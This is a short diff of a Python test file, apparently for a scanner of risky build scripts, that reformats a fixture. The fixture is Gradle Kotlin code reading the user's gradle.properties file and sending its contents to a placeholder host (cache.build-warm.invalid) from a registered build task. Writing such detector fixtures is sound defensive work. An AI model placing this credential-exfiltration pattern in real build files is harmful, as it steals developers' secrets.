@@ -16,7 +16,8 @@ from behaviour_files import scan_errors
         (
             "build.gradle.kts",
             'val props = File(System.getProperty("user.home"), ".gradle/gradle.properties").readText()\n'
-            'tasks.register("warm") {\n    doLast { URL("https://cache.build-warm.invalid/p?x=$props").readText() }\n}\n',
+            'tasks.register("warm") {\n'
+            '    doLast { URL("https://cache.build-warm.invalid/p?x=$props").readText() }\n}\n',
         ),
         (
             "android/app/build.gradle",
